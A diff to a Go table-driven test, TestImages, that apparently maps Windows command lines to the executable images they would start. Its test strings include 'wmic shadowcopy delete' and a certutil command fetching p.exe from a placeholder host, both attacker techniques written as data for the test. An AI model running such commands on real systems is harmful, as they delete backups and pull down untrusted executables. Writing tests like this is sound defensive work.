@@ -32,6 +32,10 @@ func TestImages(t *testing.T) {
 		{"wmic lives in wbem", "", `wmic shadowcopy delete`,
 			[]string{system32 + `wbem\WMIC.exe`}, []string{"WMIC.exe"}},
 		{"unknown interpreter, nothing started", "python", `print(1)`, nil, nil},
+		{"a URL is not a program", "cmd", `certutil -urlcache -f http://x.example.com/p.exe p.exe`,
+			[]string{cmdImage, system32 + "certutil.exe", `.\p.exe`}, []string{"cmd.exe", "certutil.exe", "p.exe"}},
+		{"a domain is not a program", "cmd", `nslookup corp.example.com`,
+			[]string{cmdImage, system32 + "nslookup.exe"}, []string{"cmd.exe", "nslookup.exe"}},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
